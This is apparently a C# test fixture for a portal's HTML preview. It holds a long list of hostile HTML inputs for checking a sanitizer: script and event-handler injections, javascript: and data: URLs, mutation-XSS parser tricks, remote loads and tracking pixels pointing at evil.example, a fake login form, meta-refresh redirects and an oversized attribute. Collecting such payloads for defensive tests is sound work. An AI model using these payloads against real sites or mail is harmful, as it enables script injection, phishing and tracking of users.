namespace OrleansBackup.Portal.Tests.Previews;

/// <summary>HTML that tries to run, to ask elsewhere, to break out or to choke whoever shows it: the ways that are known from mail and from filters that were got round.</summary>
/// <remarks>Each says <c>taken</c> where it has its way: as a title, as an alert, as a request to evil.example.</remarks>
internal static class HostileHtml
{
    public static readonly string[] All =
    [
        "<script>document.title='taken'</script>", "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>", "<scr<script>ipt>document.title='taken'</scr</script>ipt>", "<script/x>alert('taken')</script\t\n bar>",
        "<img src=x onerror=alert('taken')>", "<img src=`x`onerror=alert('taken')>", "<img/src=x/onerror=alert('taken')//", "<IMG \"\"\"><SCRIPT>alert('taken')</SCRIPT>\">", "<img src=\"https://evil.example/pixel.gif\">",
        "<img srcset=\"https://evil.example/1x.png 1x\">", "<img src=\"//evil.example/p.png\">", "<img src='data:image/svg+xml,<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>'>", "<image src=x onerror=alert('taken')>",
        "<svg onload=alert('taken')>", "<svg><script>alert('taken')</script></svg>", "<svg><animate onbegin=alert('taken') attributeName=x dur=1s>", "<svg><a xlink:href=javascript:alert('taken')><text x=20 y=20>x</text></a></svg>",
        "<svg></p><style><a id=\"</style><img src=1 onerror=alert('taken')>\">", "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert('taken')&gt;\">", "<math href=javascript:alert('taken')>x</math>",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert('taken')>", "<noscript><p title=\"</noscript><img src=x onerror=alert('taken')>\">", "<template><script>alert('taken')</script></template>",
        "<a href=\"javascript:alert('taken')\" id=go>x</a>", "<a href=\"java&#10;script:alert('taken')\">x</a>", "<a href=\" &#14; javascript:alert('taken')\">x</a>", "<a href=\"JaVaScRiPt&colon;alert('taken')\">x</a>", "<a href=\"data:text/html,<script>alert('taken')</script>\">x</a>",
        "<a href=\"vbscript:msgbox('taken')\">x</a>", "<a href=\"\\\\evil.example\\share\">x</a>", "<a href='https://bank.example@evil.example/'>https://bank.example</a>", "<a style=\"position:fixed;inset:0\" href=\"https://evil.example\">x</a>",
        "<body onload=alert('taken')>", "<body background=\"https://evil.example/b.png\">", "<table background=\"https://evil.example/t.png\"><tr><td background='https://evil.example/td.png'>x</table>", "<input autofocus onfocus=alert('taken')>",
        "<select autofocus onfocus=alert('taken')><option>x</select>", "<details open ontoggle=alert('taken')>x</details>", "<video><source onerror=alert('taken')></video>", "<audio src=https://evil.example/a.mp3 autoplay onloadstart=alert('taken')>",
        "<video poster=\"https://evil.example/p.jpg\"></video>", "<marquee onstart=alert('taken')>x</marquee>", "<iframe src=\"javascript:alert('taken')\"></iframe>", "<iframe srcdoc=\"<script>parent.document.title='taken'</script>\"></iframe>",
        "<object data=\"https://evil.example/o\"></object>", "<embed src=\"https://evil.example/e\">", "<applet code=x></applet>", "<frameset onload=alert('taken')><frame src=https://evil.example></frameset>", "<portal src=https://evil.example>",
        "<form action=https://evil.example><input name=q><button>Log in</button></form>", "<button formaction=\"javascript:alert('taken')\">x</button>", "<isindex action=\"javascript:alert('taken')\">", "<keygen autofocus onfocus=alert('taken')>",
        "<meta http-equiv=refresh content=\"0;url=https://evil.example\">", "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert('taken')\">", "<base href=https://evil.example/><img src=x.png>", "<link rel=stylesheet href=https://evil.example/s.css>",
        "<link rel=prefetch href=https://evil.example/p>", "<style>@import 'https://evil.example/i.css';</style>", "<style>body{background:url(https://evil.example/bg.png)}</style>", "<style><img src=\"</style><img src=x onerror=alert('taken')>\">",
        "<p style=\"background:url('https://evil.example/p.png')\">x</p>", "<p style=\"background:u\\72l(https://evil.example/p.png)\">x</p>", "<p style=\"width:expression(alert('taken'))\">x</p>", "<p style=\"color:red;}</style><script>alert('taken')</script>\">x</p>",
        "<p style=\"-moz-binding:url(https://evil.example/x.xml#x)\">x</p>", "<div style=\"list-style-image:image-set('https://evil.example/l.png' 1x)\">x</div>", "<p style='font-family:\"</style><img src=x onerror=alert(1)>\"'>x</p>",
        "<!--[if gte mso 9]><script>alert('taken')</script><![endif]-->", "<!--><img src=x onerror=alert('taken')>-->", "<!-- --!><img src=x onerror=alert('taken')> -->", "<![CDATA[<img src=x onerror=alert('taken')>]]>", "<?xml version=\"1.0\"?><script>alert('taken')</script>",
        "<title><img src=x onerror=alert('taken')></title>", "<textarea><img src=x onerror=alert('taken')></textarea><img src=x onerror=alert('taken')>", "<xmp><img src=x onerror=alert('taken')></xmp>", "<plaintext><script>alert('taken')</script>",
        "</body></html><script>alert('taken')</script>", "\"><script>alert('taken')</script>", "&lt;script&gt;alert('taken')&lt;/script&gt;", "<p title='\"><img src=x onerror=alert(1)>'>x</p>", "<p title=\"`onmouseover=alert('taken')\">x</p>",
        "<div id=\"preview\" name=\"cookie\"><a id=getElementById name=body>x</a></div>", "<x onclick=alert('taken')>x</x>", "<b/onmouseover=alert('taken')>x</b>", "<\0script>alert('taken')</script>", "<scr\0ipt>alert('taken')</scr\0ipt>", "+ADw-script+AD4-alert('taken')+ADw-/script+AD4-",
        "<a href=\"https://evil.example\" ping=\"https://evil.example/ping\" target=_top>x</a>", "<a href=https://evil.example download>x</a>", "<area href=\"javascript:alert('taken')\" shape=default>", "<map name=m><area href=https://evil.example></map><img usemap=#m src=cid:logo>",
        "<td></td></table></div></body><script>alert('taken')</script>", "<p" + new string(' ', 50_000) + "onclick=alert('taken')>x", "<", "<!", "</", "<a", "<a href", "<a href=", "<a href=\"", "<img src='cid:logo' onload=alert('taken')>",
    ];
}
